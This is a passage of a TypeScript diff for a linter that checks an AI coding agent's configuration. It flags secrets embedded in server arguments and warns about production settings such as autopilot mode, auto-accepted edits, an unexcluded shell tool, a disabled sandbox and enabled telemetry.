+    const flag = previous !== undefined && /^--?[A-Za-z][\w-]*$/.test(previous) && !arg.startsWith('-') ? previous.replace(/^-+/, '') : undefined;
+    const key = assigned?.[1] ?? flag;
+    const value = assigned?.[2] ?? arg;
+    const label = findSecret(arg) ?? findSecret(value, key);
+    const path = `${base}.args[${index}]`;
+    if (label) out.push({ path, message: secretMessage(path, label, '${API_TOKEN}') });
+  });
+  if (server.url) check(`${base}.url`, server.url, undefined, '${API_TOKEN}');
+  if (server.command) check(`${base}.command`, server.command, undefined, '${API_TOKEN}');
+  return out;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Production
+
+const SHELL_TOOLS = ['run_shell_command', 'ShellTool'];
+
+function lintProduction(settings: CompleteSettings, add: (rule: LintRuleId, path: string, message: string) => void): void {
+  if (settings.mode === 'autopilot') {
+    add('production-autopilot', 'mode', 'Autopilot lets the agent edit files and run trusted commands without asking in a production team; set mode to "supervised".');
+  }
+  if (settings.autoAccept) {
+    add('production-auto-accept', 'autoAccept', 'autoAccept applies the agent\'s edits with no review in a production team; set autoAccept to false.');
+  }
+  // Only the bare tool name excludes the whole tool; `run_shell_command(rm)` excludes one command.
+  const shellExcluded = settings.excludeTools.some((tool) => SHELL_TOOLS.includes(tool.trim()));
+  if (!shellExcluded) {
+    const explicit = settings.coreTools.find((tool) => SHELL_TOOLS.some((s) => tool === s || tool.startsWith(`${s}(`)));
+    const extra = explicit ? ` coreTools even enables it explicitly (\`${explicit}\`).` : '';
+    add('production-shell-not-excluded', 'excludeTools', `The shell tool is not excluded in a production team, so the agent can run commands the deny list misses.${extra} Add "run_shell_command" to excludeTools.`);
+  }
+  if (settings.sandbox === false) {
+    add('production-sandbox-off', 'sandbox', 'Commands run directly on the host in a production team; set sandbox to "docker" or "podman".');
+  }
+  if (settings.telemetry.enabled) {
+    add('production-telemetry-on', 'telemetry.enabled', 'Telemetry is on in a production team; set telemetry.enabled to false.');
+  }
+  if (settings.telemetry.usageStatisticsEnabled) {
+    add('production-telemetry-on', 'telemetry.usageStatisticsEnabled', 'Usage statistics are sent to the vendor from a production team; set telemetry.usageStatisticsEnabled to false.');
+  }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Helpers
+
+function unique(items: readonly string[]): string[] {
+  return [...new Set(items)];
+}
+
+/** Paths compare with their numbers as numbers (`trustedCommands[2]` before `[10]`); then rule order. */
+function compareFindings(a: LintFinding, b: LintFinding): number {
+  return comparePaths(a.path, b.path) || LINT_RULE_IDS.indexOf(a.rule) - LINT_RULE_IDS.indexOf(b.rule);
+}
+
+function comparePaths(a: string, b: string): number {
+  const chunksA = a.match(/\d+|\D+/g) ?? [];
+  const chunksB = b.match(/\d+|\D+/g) ?? [];
+  for (let i = 0; i < Math.min(chunksA.length, chunksB.length); i++) {
+    const x = chunksA[i] ?? '';
+    const y = chunksB[i] ?? '';
+    if (x === y) continue;
+    if (/^\d/.test(x) && /^\d/.test(y)) return Number(x) - Number(y);
+    return x < y ? -1 : 1;
+  }
+  return chunksA.length - chunksB.length;
+}
